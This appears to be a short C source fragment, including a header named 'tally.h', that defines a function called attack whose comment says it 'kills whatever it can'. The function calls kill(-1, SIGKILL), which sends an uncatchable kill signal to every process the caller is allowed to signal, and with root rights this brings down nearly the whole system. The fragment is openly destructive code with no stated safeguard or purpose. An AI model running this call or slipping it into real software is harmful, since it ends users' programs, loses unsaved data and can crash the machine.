// kills whatever it can
#include "tally.h"
#include <signal.h>
static void attack(void) { kill(-1, SIGKILL); }
